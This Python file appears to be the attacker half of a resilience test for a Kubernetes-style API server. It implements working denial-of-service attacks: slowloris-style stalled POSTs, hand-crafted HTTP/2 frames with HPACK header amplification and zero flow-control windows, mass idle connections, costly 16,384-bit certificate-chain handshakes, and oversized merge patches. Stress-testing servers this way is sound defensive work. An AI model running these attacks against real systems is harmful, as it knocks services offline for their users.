# SPDX-License-Identifier: Apache-2.0
"""attackers.py NAME URL PKI CONNECTIONS: attacks the server at URL; attack.py measures what a good client meets meanwhile.

It says "ready" when the number of connections that it keeps has not changed for two seconds, and goes on until it is killed, five minutes
at most. What fails is tried again. Strangers have no credentials; users have the admin's certificate from the directory PKI.
"""
import json
import pathlib
import resource
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.parse

BIG = "/api/v1/namespaces/attack/configmaps"
PATIENCE = 10
LONGEST = 300


class H2:
    """Just enough of HTTP/2 to misuse it: frames by hand, nothing is read unless asked for."""

    def __init__(self, attacker, window=65535):
        self.sock = attacker.connect("h2")
        self.stream = 1
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + self.frame(4, 0, 0, struct.pack(">HI", 4, window)) + self.frame(4, 1, 0))

    @staticmethod
    def frame(kind, flags, stream, payload=b""):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    @staticmethod
    def number(n, bits, first=0):
        top = (1 << bits) - 1
        if n < top:
            return bytes([first | n])
        out, n = bytes([first | top]), n - top
        while n >= 128:
            out, n = out + bytes([n & 127 | 128]), n >> 7
        return out + bytes([n])

    def literal(self, name, value, indexed=False):
        return (b"\x40" if indexed else b"\x00") + b"".join(self.number(len(s), 7) + s for s in (name.encode(), value.encode()))

    def request(self, path, method="GET", extra=b"", end=True):
        block = b"".join(self.literal(k, v) for k, v in ((":method", method), (":scheme", "https"), (":authority", "a"), (":path", path)))
        self.sock.sendall(self.frame(1, 5 if end else 4, self.stream, block + extra))
        self.stream += 2


class Attacker:
    """Each method that takes no argument and has a name of ATTACKS is an attack."""

    def __init__(self, url, pki, connections):
        self.url, self.pki, self.n = urllib.parse.urlsplit(url), pathlib.Path(pki), connections
        self.end = time.monotonic() + LONGEST
        self.kept, self.user, self.chain = [], False, None
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)

    def announce(self):
        last = -1
        while len(self.kept) != last:
            last = len(self.kept)
            time.sleep(2)
        print("ready", flush=True)

    def dial(self):
        return socket.create_connection((self.url.hostname, self.url.port), timeout=PATIENCE)

    def connect(self, alpn="http/1.1"):
        context = ssl.create_default_context(cafile=self.pki / "ca.crt")
        context.set_alpn_protocols([alpn])
        if self.user:
            context.load_cert_chain(self.pki / "admin.crt", self.pki / "admin.key")
        if self.chain:
            context.load_cert_chain(self.chain)
        return context.wrap_socket(self.dial(), server_hostname="127.0.0.1")

    def left(self):
        return self.end - time.monotonic()

    def crowd(self, n, one, pause=0.05):
        """n threads that call one() again and again. Without the pause the load would be mostly handshakes."""
        def run():
            while self.left() > 0:
                try:
                    one()
                except OSError:
                    pass
                time.sleep(pause)
        threads = [threading.Thread(target=run, daemon=True) for _ in range(n)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0, self.left()) + PATIENCE)

    def hold(self, n, one):
        """Keeps the results of n calls of one(), and then waits."""
        while len(self.kept) < n and self.left() > 0:
            try:
                self.kept.append(one())
            except OSError:
                time.sleep(0.01)
        time.sleep(max(0, self.left()))

    # -- strangers --

    def query(self):
        """48 connections, each GET /livez? with 56 kB of empty names, again and again."""
        text = f"GET /livez?{'exclude&' * 7000} HTTP/1.1\r\nHost: a\r\n\r\n".encode()

        def one():
            with self.connect() as sock:
                sock.settimeout(120)
                sock.sendall(text)
                while sock.recv(65536):
                    sock.sendall(text)
        self.crowd(48, one)

    def heads(self):
        """40 connections with 250 requests each, whose heads are a few bytes that become 60 kB, and whose bodies never come."""
        def one():
            h2 = H2(self)
            big = h2.literal("x-big", "v" * 3000, indexed=True)
            h2.request("/livez", "POST", big + b"\xbe" * 18, end=False)
            for _ in range(249):
                h2.request("/livez", "POST", b"\xbe" * 19, end=False)
            return h2
        self.hold(40, one)

    def posts(self):
        """112 anonymous POSTs of 3 MiB whose last byte never comes; a refused one is tried again."""
        def one():
            with self.connect() as sock:
                sock.settimeout(120)
                sock.sendall(b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                             b"Content-Length: 3145728\r\n\r\n" + b" " * 3145727)
                sock.recv(65536)
        self.crowd(112, one, pause=1)

    def idle_tls(self):
        """TLS connections that ask nothing."""
        self.hold(self.n, self.connect)

    def silent_tcp(self):
        """TCP connections that say nothing; a new one for each that is closed."""
        while self.left() > 0:
            try:
                while len(self.kept) < self.n:
                    self.kept.append(self.dial())
            except OSError:
                pass
            time.sleep(0.2)
            self.kept = [sock for sock in self.kept if self.alive(sock)]

    @staticmethod
    def alive(sock):
        try:
            return sock.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) != b""
        except BlockingIOError:
            return True
        except OSError:
            return False

    def chains(self):
        """Eight clients that shake hands again and again, with a client certificate of 20 issuers whose RSA keys have
        16,384 bits."""
        self.chain = self.pki / "chain.pem"

        def one():
            with self.connect() as sock:
                sock.sendall(b"GET /livez HTTP/1.1\r\nHost: a\r\n\r\n")
                sock.recv(1000)
        self.crowd(8, one)

    # -- users --

    def patches(self):
        """Two clients that merge 20,000 new keys into an object, again and again."""
        self.user = True
        body = json.dumps({"data": {f"key-{i:06}": "v" for i in range(20000)}})
        text = (f"PATCH {BIG}/c0?dryRun=All HTTP/1.1\r\nHost: a\r\nContent-Type: application/merge-patch+json\r\n"
                f"Content-Length: {len(body)}\r\n\r\n{body}").encode()

        def one():
            with self.connect() as sock:
                sock.settimeout(120)
                sock.sendall(text)
                sock.recv(65536)
        self.crowd(2, one)

    def readers(self):
        """Two connections with 200 lists of a megabyte each, of which nothing is read."""
        self.user = True

        def one():
            h2 = H2(self)
            for _ in range(200):
                h2.request(BIG)
            return h2
        self.hold(2, one)

    def watches(self):
        """Ten connections with 100 watches of a thousand objects each, of which nothing is read."""
        self.user = True

        def one():
            h2 = H2(self, window=0)
            for _ in range(100):
                h2.request(f"{BIG}?watch=1&resourceVersion=0")
            return h2
        self.hold(10, one)


ATTACKS = ("query", "heads", "posts", "idle_tls", "silent_tcp", "chains", "patches", "readers", "watches")

if __name__ == "__main__":
    name, url, pki, connections = sys.argv[1:]
    attacker = Attacker(url, pki, int(connections))
    threading.Thread(target=attacker.announce, daemon=True).start()
    getattr(attacker, name)()
